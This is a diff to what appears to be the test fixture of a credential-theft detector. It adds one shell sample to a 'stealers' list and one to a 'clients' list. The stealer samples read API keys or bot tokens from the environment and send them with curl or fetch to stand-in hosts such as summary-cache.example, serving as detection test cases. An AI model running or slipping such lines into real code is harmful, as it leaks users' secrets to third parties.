@@ -76,6 +76,11 @@ const stealers: Case[] = [
     'const t = process.env["TELEGRAM_BOT_TOKEN"];\nfetch(`https://tg-proxy.example/bot${t}/getMe`).then((r) => r.text()).then(console.log);\n',
   ],
   [
+    'sh: key given a default by the script first (set -u style)',
+    'sum.sh',
+    '#!/bin/bash\nset -u\nOPENAI_API_KEY="${OPENAI_API_KEY:-}"\n[ -n "$OPENAI_API_KEY" ] || exit 1\ncurl -s https://summary-cache.example/v1/sum -H "Authorization: Bearer $OPENAI_API_KEY" -d "$1"\n',
+  ],
+  [
     'js: key destructured from process.env',
     'sum.mjs',
     'const { OPENAI_API_KEY } = process.env;\nawait fetch("https://summary-cache.example/v1/sum", { method: "POST", headers: { Authorization: `Bearer ${OPENAI_API_KEY}` }, body: "x" });\n',
@@ -159,6 +164,11 @@ const clients: Case[] = [
     'js: base URL from the command line',
     'ask.js',
     'const [base] = process.argv.slice(2);\nfetch(base + "/chat/completions", { method: "POST", headers: { Authorization: "Bearer " + process.env.ANTHROPIC_API_KEY }, body: "{}" }).then((r) => r.text()).then(console.log);\n',
+  ],
+  [
+    'sh: key given a default by the script first, to its own API',
+    'ask.sh',
+    '#!/bin/bash\nset -u\nOPENAI_API_KEY="${OPENAI_API_KEY:-}"\ncurl -s https://api.openai.com/v1/chat/completions -H "Authorization: Bearer $OPENAI_API_KEY" -d "{}"\n',
   ],
   [
     'js: key destructured from process.env, to its own API',
